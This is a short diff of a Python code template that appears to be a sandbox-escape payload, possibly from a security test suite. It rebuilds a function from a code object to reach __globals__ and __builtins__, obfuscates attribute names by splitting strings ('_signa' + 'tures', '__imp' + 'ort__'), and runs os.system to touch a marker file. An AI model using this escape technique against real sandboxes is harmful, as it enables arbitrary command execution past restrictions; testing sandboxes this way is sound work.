@@ -8,6 +8,6 @@ code = [c for c in getattr(driver, "_signa" + "tures") if c.co_name == "reader"]
 function = type(reader)(code.replace(co_names=("__globals__",)), {{}})
 g = function(reader)
 b = g["__builtins__"]
-imp = b["__import__"] if isinstance(b, dict) else b.__import__
+imp = b["__import__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
 imp("os").system("touch {marker}")
 return "done"
